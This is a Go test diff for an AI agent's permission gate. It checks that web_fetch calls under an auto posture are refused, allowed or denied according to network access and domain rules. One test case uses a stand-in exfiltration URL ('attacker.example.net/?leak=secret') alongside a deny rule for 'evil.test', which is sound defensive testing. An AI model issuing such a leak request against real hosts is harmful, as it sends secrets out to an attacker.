@@ -5,6 +5,8 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+
+	"reasonix/agent"
 )
 
 // WebFetch(domain:…) rules decide web_fetch calls by the URL's host: the
@@ -82,4 +84,45 @@ func FuzzWebFetchDomain(f *testing.F) {
 		}
 		_ = fmt.Sprint(r)
 	})
+}
+
+// Under auto a web_fetch no rule names is the network egress the sandbox
+// closes for bash: it asks (refused when nobody can be asked) unless the
+// task has the network; an allow rule lets it through, a deny rule wins.
+func TestWebFetchUnderAutoNeedsTheNetworkOrARule(t *testing.T) {
+	p, err := New(Config{Allow: []string{"WebFetch(domain:docs.example.com)"}, Deny: []string{"WebFetch(domain:evil.test)"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fetch := func(network bool, url string) agent.Verdict {
+		t.Helper()
+		g, err := NewGate(GateConfig{Policy: p, Posture: PostureAuto, Workdir: t.TempDir(), ShellSandboxed: true, Network: network})
+		if err != nil {
+			t.Fatal(err)
+		}
+		args, _ := json.Marshal(map[string]string{"url": url})
+		v, err := g.Authorize(t.Context(), agent.Call{ID: "c1", Tool: "web_fetch", Args: args})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	if v := fetch(false, "https://attacker.example.net/?leak=secret"); v.Allowed || v.Code != agent.RefusedUnattended ||
+		!strings.Contains(v.Reason, "attacker.example.net") || !strings.Contains(v.Reason, "no network") {
+		t.Errorf("an unnamed host without the network = %+v, want asked (refused unattended) naming the host", v)
+	}
+	if v := fetch(false, "https://docs.example.com/guide"); !v.Allowed {
+		t.Errorf("an allowed domain = %+v", v)
+	}
+	if v := fetch(true, "https://attacker.example.net/"); !v.Allowed {
+		t.Errorf("an unnamed host with [sandbox] network = %+v, want allowed", v)
+	}
+	if v := fetch(true, "https://evil.test/"); v.Allowed || v.Code != agent.RefusedByRule {
+		t.Errorf("a denied domain with the network = %+v", v)
+	}
+	// Bash under auto is not changed by it.
+	g, _ := NewGate(GateConfig{Policy: p, Posture: PostureAuto, Workdir: t.TempDir(), ShellSandboxed: true})
+	if v, _ := g.Authorize(t.Context(), agent.Call{ID: "c2", Tool: "bash", Args: json.RawMessage(`{"command":"echo hi > f"}`)}); !v.Allowed {
+		t.Errorf("bash under auto = %+v", v)
+	}
 }
